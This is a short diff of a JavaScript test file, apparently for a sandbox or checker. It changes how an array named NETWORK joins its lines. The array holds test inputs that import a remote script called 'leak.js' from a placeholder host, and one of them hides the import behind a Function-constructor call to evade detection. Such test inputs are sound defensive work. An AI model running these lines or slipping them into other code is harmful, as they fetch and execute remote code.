@@ -28,7 +28,7 @@ const NETWORK = [
   'import("https://example.org/leak.js").catch(() => 0)',
   '(() => {}).constructor("import(\'https://example.org/leak.js\').catch(() => 0)")()',
 ]
-  .map((line) => `${line.replaceAll('"', '\\"')}\\n`)
+  .map((line) => `${line.replaceAll('"', '\\"')};\\n`)
   .join('');
 
 it('an answer is judged on a sheet, kept, handed in, and the class checked again', async () => {
